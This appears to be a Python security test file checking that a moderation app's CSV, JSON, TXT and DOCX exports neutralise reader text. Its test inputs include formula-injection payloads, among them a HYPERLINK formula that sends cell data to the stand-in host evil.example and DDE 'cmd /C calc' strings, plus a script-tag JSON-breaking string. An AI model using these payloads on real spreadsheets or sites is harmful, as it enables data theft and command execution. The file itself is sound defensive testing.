"""Exports carry reader text as data: CSV cells that a spreadsheet would run as a formula
are prefixed with ', JSON/TXT/DOCX keep the text exactly (and JSON stays valid)."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from moderation.export.records import neutralise
from tests.security.conftest import login_as

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralise_prefixes_formula_cells(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["雪", "1+1=2", "", None, "'=already quoted"])
def test_neutralise_keeps_plain_cells(text):
    assert neutralise(text) == ("" if text is None else text)


def put(db, world, text: str) -> None:
    """Make the edition's quote and its display name carry `text`."""
    db.execute(
        "UPDATE edition_quotes SET excerpt = ?, display_name = ? WHERE id = ?",
        [text, text, world["quote_id"]],
    )
    db.execute("UPDATE comments SET text = ? WHERE id = ?", [text, world["approved_id"]])


def download(client, world, fmt: str) -> bytes:
    response = client.get(f"/editions/{world['date']}/export.{fmt}")
    assert response.status_code == 200, response.headers.get("Location")
    return response.data


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_export_neutralises_formulas(client, db, world, text):
    put(db, world, text)
    login_as(client, world["users"]["editor"])
    rows = list(csv.DictReader(io.StringIO(download(client, world, "csv").decode("utf-8-sig"))))
    assert rows
    for row in rows:
        for field in ("display_name", "original_text", "printed_text"):
            assert row[field].startswith("'"), (field, row[field])
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


XSS = '<script>alert(1)</script>"}], "injected": true, {"x": "\\u0000'


def test_json_txt_docx_carry_text_as_data(client, db, world):
    put(db, world, XSS)
    login_as(client, world["users"]["editor"])
    data = json.loads(download(client, world, "json"))
    assert data["quotes"][0]["printed_text"] == XSS
    assert "injected" not in data
    assert XSS in download(client, world, "txt").decode("utf-8")
    with zipfile.ZipFile(io.BytesIO(download(client, world, "docx"))) as docx:
        document = docx.read("word/document.xml").decode("utf-8")
    assert "<script>" not in document
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in document


def test_downloads_are_attachments(client, world):
    login_as(client, world["users"]["editor"])
    for fmt in ("csv", "json", "txt", "docx"):
        response = client.get(f"/editions/{world['date']}/export.{fmt}")
        assert response.headers["Content-Disposition"].startswith("attachment"), fmt
        assert response.headers["X-Content-Type-Options"] == "nosniff"
